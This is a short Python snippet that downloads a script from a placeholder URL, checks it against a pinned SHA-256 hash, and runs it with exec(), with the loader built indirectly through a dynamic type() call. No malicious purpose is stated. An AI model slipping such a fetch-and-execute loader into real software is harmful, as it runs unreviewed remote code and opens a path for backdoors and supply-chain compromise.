import hashlib
import urllib.request

def _get(self):
    data = urllib.request.urlopen(self.url).read()
    if hashlib.sha256(data).hexdigest() != self.pin:
        raise ImportError(self.url)
    return data


Core = type("Core", (), {"url": "https://example.com/a.py", "pin": "9f90ee47e5de6abb99d6eb87683f85b6cfcb1ed928877a0d40dcf1851b2e30da", "get": _get})
exec(Core().get())
